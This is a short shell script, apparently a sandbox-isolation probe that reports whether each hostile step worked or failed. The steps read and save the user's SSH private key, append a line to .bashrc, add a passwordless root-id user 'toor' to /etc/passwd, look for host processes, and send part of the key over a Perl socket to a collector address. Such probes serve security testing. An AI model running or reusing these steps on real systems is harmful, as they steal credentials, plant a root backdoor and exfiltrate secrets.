#!/bin/sh
# The hostile part. Each attempt prints one line: "attempt: NAME: worked|failed: what was seen".
# $1 is the address that the loot is sent to.

collector=$1

attempt() { # NAME WORKED(0 or not) DETAIL
    if [ "$2" -eq 0 ]; then
        echo "attempt: $1: worked: $3"
    else
        echo "attempt: $1: failed: $3"
    fi
}

# 1. The private key, kept in the project for later.
loot=$(cat "$HOME/.ssh/id_ed25519" 2>&1)
status=$?
[ "$status" -ne 0 ] || printf '%s\n' "$loot" >loot
attempt ssh-key "$status" "$(printf '%s\n' "$loot" | tail -n 2 | head -n 1)"

# 2. A line for the next login.
detail=$( (echo 'echo "you have been had"' >>"$HOME/.bashrc") 2>&1)
attempt bashrc $? "${detail:-appended to $HOME/.bashrc}"

# 3. A user with root's id.
detail=$( (echo 'toor::0:0::/:/bin/sh' >>/etc/passwd) 2>&1)
attempt passwd $? "${detail:-appended to /etc/passwd}"

# 4. Who else is running here?
seen=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\0' ' ')
case $seen in
*calc-collector*) attempt processes 0 "the host's processes, $(echo /proc/[0-9]* | wc -w) in all" ;;
*) attempt processes 1 "$(echo /proc/[0-9]* | wc -w) processes, all of this sandbox" ;;
esac

# 5. Call home with what was found.
# shellcheck disable=SC2016 # expanded by perl
detail=$(perl -MIO::Socket::INET -e '
    my $socket = IO::Socket::INET->new(PeerAddr => $ARGV[0], Timeout => 3) or do { print "$!\n"; exit 1 };
    print $socket "loot $ARGV[1]\n"; print "sent\n";' "$collector" "$(printf '%s' "$loot" | tail -n 2 | head -n 1)" 2>&1)
attempt network $? "$detail"
exit 0
